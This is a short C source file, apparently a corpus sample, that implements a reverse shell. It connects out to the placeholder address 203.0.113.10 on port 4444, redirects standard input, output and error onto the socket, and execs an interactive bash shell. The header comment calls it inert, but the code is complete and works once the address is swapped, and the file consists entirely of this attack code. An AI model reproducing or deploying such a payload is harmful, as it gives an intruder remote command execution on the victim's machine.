/* Corpus sample (inert: compiled, never run). A reverse shell written here from scratch:
 * connects out to a fixed address (TEST-NET-3, never routed) and runs a shell on the
 * connection through execve. */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	static char *const shell_argv[] = { "bash", "-i", 0 };
	struct sockaddr_in peer;
	int s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
	memset(&peer, 0, sizeof peer);
	peer.sin_family = AF_INET;
	peer.sin_port = htons(4444);
	peer.sin_addr.s_addr = htonl(0xcb00710a); /* 203.0.113.10 */
	if (connect(s, (struct sockaddr *)&peer, sizeof peer) != 0)
		return 1;
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execve("/bin/bash", shell_argv, 0);
	return 0;
}
